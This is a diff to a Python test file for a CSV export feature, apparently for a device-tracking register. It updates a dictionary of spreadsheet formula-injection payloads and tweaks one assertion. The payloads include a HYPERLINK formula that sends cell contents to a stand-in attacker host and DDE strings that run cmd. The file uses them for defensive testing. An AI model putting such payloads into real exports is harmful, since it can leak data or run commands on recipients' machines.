@@ -37,7 +37,7 @@ T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
 PAYLOADS = {
     "contact_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
     "model": "+SUM(1+1)*cmd|' /C calc'!A0",
-    "colour": "@SUM(1+1)",
+    "colour": "@cmd|' /C calc'!A0",
     "place": "-1+1",
     "network": "\tTAB=1",
     "tracked_place": "\rCR=1",
@@ -127,7 +127,7 @@ async def test_csv_is_rfc4180_with_bom_and_crlf(register: Register, tmp_path: Pa
     assert content.startswith(BOM + '"reference","status",')
     assert content.endswith("\r\n")
     # Text is quoted, our numbers are not: importers that honour quotes keep IMEIs as text.
-    assert ',51.5142,-0.1494,' in content
+    assert ",51.5142,-0.1494," in content
     assert '"Jo ""JJ"" O\'Neil, Jr."' in content
     assert '"line one\nline two"' in content
     (row,) = read_csv(content)
